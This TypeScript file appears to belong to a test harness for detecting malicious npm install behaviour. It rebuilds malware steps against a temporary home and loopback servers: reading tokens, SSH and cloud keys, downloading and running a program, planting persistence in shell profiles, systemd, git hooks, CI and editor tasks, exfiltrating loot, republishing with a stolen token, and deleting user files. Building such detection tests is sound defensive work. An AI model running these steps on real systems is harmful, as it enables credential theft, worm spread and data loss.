/**
 * Steps of malicious packages that were seen in practice, rebuilt without harm: they touch a temporary home and project, and
 * servers on loopback. `incidents.ts` names the incidents.
 */
import { existsSync, readFileSync } from "node:fs";
import { SCANNER } from "./attacker.ts";
import type { Household } from "./household.ts";

export interface Step {
  readonly name: string;
  /** What the step does, for the table. */
  readonly does: string;
  /** JavaScript of the step, in the body of an async function with `home`, `project`, `loot`, `get`, `post` and `run` in scope. */
  readonly code: string;
  /** How its first event begins, with ports as `{name}`; undefined if it makes no system call that is an event. */
  readonly act?: string;
  /** What the first line of the console tells, where that is not its first event but a graver one. */
  readonly first?: string;
  /** It needs the result of another step. */
  readonly needs?: string;
  /** Whether it had its effect, apart from the data it collects. */
  readonly happened?: (household: Household) => boolean;
  /** What must have arrived at the attacker, if the data was sent. */
  readonly brings?: string;
}

const reads = (name: string, does: string, path: string, brings: string): Step => ({
  name,
  does,
  code: `loot[${JSON.stringify(name)}] = fs.readFileSync(path.join(home, ${JSON.stringify(path)}), 'utf8')`,
  act: `open access=read path=$HOME/${path}`,
  brings,
});

/** `place` is "home" or "project". */
const leaves = (
  name: string,
  does: string,
  place: "home" | "project",
  path: string,
  text: string,
  act: string,
  first?: string,
): Step => ({
  name,
  does,
  code: `
    const target = path.join(${place}, ${JSON.stringify(path)})
    fs.mkdirSync(path.dirname(target), { recursive: true })
    fs.appendFileSync(target, ${JSON.stringify(text)})`,
  act,
  ...(first === undefined ? {} : { first }),
  happened: (household) => holds(household.at(`${place}/${path}`), text),
});

const holds = (path: string, text: string) => existsSync(path) && readFileSync(path, "utf8").includes(text);

const isScanner = (path: string) => existsSync(path) && readFileSync(path).equals(readFileSync(SCANNER));

export const steps: readonly Step[] = [
  {
    name: "environment",
    does: "collect the environment",
    code: "loot.environment = process.env",
    brings: "ENVIRONMENT_SECRET",
  },
  {
    name: "home",
    does: "search the home directory",
    code: "loot.home = fs.readdirSync(home, { recursive: true })",
    act: "open access=read path=$HOME mode=040",
    first: "opened the directory $HOME/",
    brings: "thesis.txt",
  },
  reads("npm-token", "read the npm token, which npm itself reads as well", ".npmrc", "NPM_SECRET"),
  reads("ssh-key", "read a private SSH key", ".ssh/id_ed25519", "SSH_SECRET"),
  reads("cloud-key", "read cloud credentials", ".aws/credentials", "AWS_SECRET"),
  reads("git-token", "read git's stored credentials", ".git-credentials", "GIT_SECRET"),
  {
    name: "other-environment",
    does: "read the environment of the process that started it",
    code: "loot.parent = fs.readFileSync(`/proc/${process.ppid}/environ`, 'utf8')",
    act: "open access=read path=/proc/$task/environ",
    brings: "npm_lifecycle",
  },
  {
    name: "memory",
    does: "open the memory of the process that started it",
    code: "fs.closeSync(fs.openSync(`/proc/${process.ppid}/mem`, 'r')); loot.memory = 'MEMORY_OPENED'",
    act: "open access=read path=/proc/$task/mem",
    brings: "MEMORY_OPENED",
  },
  {
    name: "installed-tool",
    does: "ask an installed tool for its token",
    code: "loot.tool = run(path.join(home, 'bin/forge'), ['auth', 'token'])",
    act: "exec path=$HOME/bin/forge",
    brings: "TOOL_SECRET",
  },
  {
    name: "metadata",
    does: "ask the cloud's metadata service (a stand-in on loopback)",
    code: "loot.metadata = await ask('GET', metadata + '/latest/meta-data/')",
    act: "connect family=inet type=stream address=127.0.0.1:{metadata}",
    happened: ({ attacker }) => attacker.reached.some(({ request }) => request === "GET /latest/meta-data/"),
  },
  {
    name: "download",
    does: "download a program",
    code: "loot.scanner = undefined; scanner = await get('/scanner')",
    act: "connect family=inet type=stream address=127.0.0.1:{attacker}",
    happened: ({ attacker }) => attacker.reached.some(({ request }) => request === "GET /scanner"),
  },
  {
    name: "keep",
    does: "store it in the home directory",
    code: "fs.mkdirSync(path.join(home, '.cache'), { recursive: true }); fs.writeFileSync(path.join(home, '.cache/scanner'), scanner ?? 'nothing', { mode: 0o755 })",
    act: "mkdir path=$HOME/.cache",
    needs: "download",
    happened: (household) => isScanner(household.at("home/.cache/scanner")),
  },
  {
    name: "run",
    does: "run it",
    // Without pipes, which would be refused before the execution is.
    code: "run(path.join(home, '.cache/scanner'), [path.join(home, 'scanned')], 'inherit')",
    act: "exec path=$HOME/.cache/scanner",
    needs: "keep",
    happened: (household) => existsSync(household.at("home/scanned")),
  },
  leaves(
    "shell-profile",
    "append a line to the shell's profile",
    "home",
    ".bashrc",
    "# MARK profile\n",
    "open access=write,append path=$HOME/.bashrc",
  ),
  leaves(
    "unit",
    "leave a systemd unit",
    "home",
    ".config/systemd/user/monitor.service",
    "# MARK unit\n",
    "mkdir path=$HOME/.config",
    "created $HOME/.config/systemd/user/monitor.service",
  ),
  leaves(
    "git-hook",
    "leave a git hook in the project",
    "project",
    ".git/hooks/post-commit",
    "# MARK hook\n",
    "create access=write,append path=$CWD/.git/hooks/post-commit",
  ),
  leaves(
    "workflow",
    "leave a workflow that CI will run",
    "project",
    ".github/workflows/formatter.yml",
    "# MARK workflow\n",
    "mkdir path=$CWD/.github",
    "created $CWD/.github/workflows/formatter.yml",
  ),
  leaves(
    "editor-task",
    "leave a task that an editor will run",
    "project",
    ".vscode/tasks.json",
    "// MARK task\n",
    "mkdir path=$CWD/.vscode",
    "created $CWD/.vscode/tasks.json",
  ),
  leaves(
    "neighbour",
    "write into another package",
    "project",
    "node_modules/neighbour/index.js",
    "// MARK neighbour\n",
    "open access=write,append path=$CWD/node_modules/neighbour/index.js",
  ),
  {
    name: "exfiltration",
    does: "send what was collected",
    code: "await post('/loot', JSON.stringify(loot))",
    act: "connect family=inet type=stream address=127.0.0.1:{attacker}",
    happened: ({ attacker }) => attacker.reached.some(({ request }) => request === "POST /loot"),
  },
  {
    name: "publish",
    does: "publish itself with the stolen token, to the registry that npm uses",
    code: "await put(registry + 'neighbour')",
    act: "connect family=inet type=stream address=127.0.0.1:{registry}",
    happened: ({ registry }) => registry.published.length > 0,
  },
  {
    name: "background",
    does: "start a process that outlives the installation and calls home",
    code: `
      const child = cp.spawn(process.execPath, ['-e', "require('http').get(" + JSON.stringify(host + '/poll') + ")"], { detached: true, stdio: 'ignore' })
      await new Promise((resolve, reject) => child.on('spawn', resolve).on('error', reject))
      child.unref()`,
    act: "exec path={node}",
    first: "`node (text)`",
    happened: ({ attacker }) => attacker.reached.some(({ request }) => request === "GET /poll"),
  },
  {
    name: "traces",
    does: "delete its own script",
    code: "fs.unlinkSync(__filename)",
    act: "unlink path=$CWD/node_modules/pretty/",
    happened: ({ wormFile }) => !existsSync(wormFile),
  },
  {
    name: "destruction",
    does: "delete the user's files",
    code: "fs.rmSync(path.join(home, 'documents/thesis.txt'))",
    act: "unlink path=$HOME/documents/thesis.txt",
    happened: (household) => !existsSync(household.at("home/documents/thesis.txt")),
  },
];
